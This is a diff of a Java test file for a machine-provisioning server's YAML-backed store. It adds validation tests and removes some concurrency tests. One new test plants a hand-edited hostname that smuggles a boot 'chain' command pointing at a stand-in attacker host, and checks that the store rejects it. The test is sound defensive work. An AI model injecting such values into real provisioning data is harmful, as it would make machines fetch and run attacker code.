@@ -5,7 +5,8 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import dev.provisioner.server.core.MacAddress;
 import dev.provisioner.server.core.Machine;
-import dev.provisioner.server.core.MachineExistsException;
+import dev.provisioner.server.core.MachineStore;
+import dev.provisioner.server.core.MachineStoreContract;
 import dev.provisioner.server.core.Problem;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -20,17 +21,47 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-class FileMachineStoreTest {
+/** The contract, plus what only files have: the YAML on disk, hand edits, broken files. */
+class FileMachineStoreTest extends MachineStoreContract {
 
     @TempDir
     Path data;
 
-    private static MacAddress mac(int n) {
-        return MacAddress.parse(String.format("52:54:00:00:%02x:%02x", n >> 8, n & 0xff)).orElseThrow();
+    @Override
+    protected MachineStore store() {
+        return new FileMachineStore(data);
     }
 
-    private static Machine machine(int n) {
-        return new Machine(mac(n), "node-" + n, "worker", Map.of("rack", "r" + n % 3), Map.of("slot", (long) n));
+    @Override
+    protected MachineStore reopened() {
+        FileMachineStore reopened = new FileMachineStore(data);
+        reopened.refresh();
+        return reopened;
+    }
+
+    @Test
+    void aHandEditedHostnameThatWouldInjectABootCommandIsAProblemAndTheLastGoodVersionStays() throws Exception {
+        FileMachineStore store = new FileMachineStore(data);
+        Machine good = new Machine(mac(1), "node-1", "worker", Map.of(), Map.of());
+        store.create(good);
+        Path file = data.resolve("machines/52-54-00-00-00-01.yaml");
+        Files.writeString(file, "profile: worker\nhostname: \"evil\\nchain http://attacker.example/x\"\n");
+        store.refresh();
+        assertThat(store.get(mac(1))).contains(good);
+        assertThat(store.problems()).singleElement().satisfies(problem -> {
+            assertThat(problem.file()).isEqualTo("machines/52-54-00-00-00-01.yaml");
+            assertThat(problem.line()).isEqualTo(2);
+            assertThat(problem.column()).isEqualTo(11);
+            assertThat(problem.message()).startsWith("hostname: must be an RFC 1123 host name");
+        });
+        // a new file that breaks a rule is never served at all
+        Files.writeString(data.resolve("machines/52-54-00-00-00-02.yaml"),
+                "profile: worker\nlabels:\n  rack: \"r1\\u0007\"\n");
+        store.refresh();
+        assertThat(store.get(mac(2))).isEmpty();
+        assertThat(store.problems()).extracting(Problem::toString)
+                .contains("machines/52-54-00-00-00-02.yaml:3:9: labels.rack: label values are at most 253 characters "
+                        + "without control characters");
     }
 
     @Test
@@ -57,13 +88,6 @@ class FileMachineStoreTest {
             assertThat(files.map(p -> p.getFileName().toString()))
                     .hasSize(19).allMatch(name -> name.matches("52-54-00-00-00-[0-9a-f]{2}\\.yaml"));
         }
-    }
-
-    @Test
-    void refusesToRegisterATakenMac() {
-        FileMachineStore store = new FileMachineStore(data);
-        store.create(machine(1));
-        assertThatThrownBy(() -> store.create(machine(1))).isInstanceOf(MachineExistsException.class);
     }
 
     @Test
@@ -137,49 +161,4 @@ class FileMachineStoreTest {
                 .anySatisfy(m -> assertThat(m).containsIgnoringCase("aliases"));
     }
 
-    @Test
-    void concurrentWritersLoseNothing() throws Exception {
-        FileMachineStore store = new FileMachineStore(data);
-        ExecutorService pool = Executors.newFixedThreadPool(16);
-        AtomicInteger conflicts = new AtomicInteger();
-        List<Future<?>> work = new ArrayList<>();
-        for (int i = 0; i < 400; i++) {
-            int n = i % 200;  // every MAC registered twice, concurrently
-            work.add(pool.submit(() -> {
-                try {
-                    store.create(machine(n));
-                } catch (MachineExistsException e) {
-                    conflicts.incrementAndGet();
-                }
-            }));
-        }
-        for (Future<?> f : work) {
-            f.get();
-        }
-        pool.shutdown();
-        assertThat(conflicts).hasValue(200);
-        FileMachineStore reopened = new FileMachineStore(data);
-        reopened.refresh();
-        assertThat(reopened.list()).hasSize(200);
-        assertThat(reopened.problems()).isEmpty();
-    }
-
-    @Test
-    void updatesAreReadModifyWriteUnderTheLock() throws Exception {
-        FileMachineStore store = new FileMachineStore(data);
-        store.create(new Machine(mac(1), null, "worker", Map.of(), Map.of("count", 0L)));
-        ExecutorService pool = Executors.newFixedThreadPool(8);
-        List<Future<?>> work = new ArrayList<>();
-        for (int i = 0; i < 100; i++) {
-            work.add(pool.submit(() -> store.update(mac(1), m -> new Machine(m.mac(), null, "worker", Map.of(),
-                    Map.of("count", (Long) m.metadata().get("count") + 1)))));
-        }
-        for (Future<?> f : work) {
-            f.get();
-        }
-        pool.shutdown();
-        FileMachineStore reopened = new FileMachineStore(data);
-        reopened.refresh();
-        assertThat(reopened.get(mac(1)).orElseThrow().metadata()).containsEntry("count", 100L);
-    }
 }
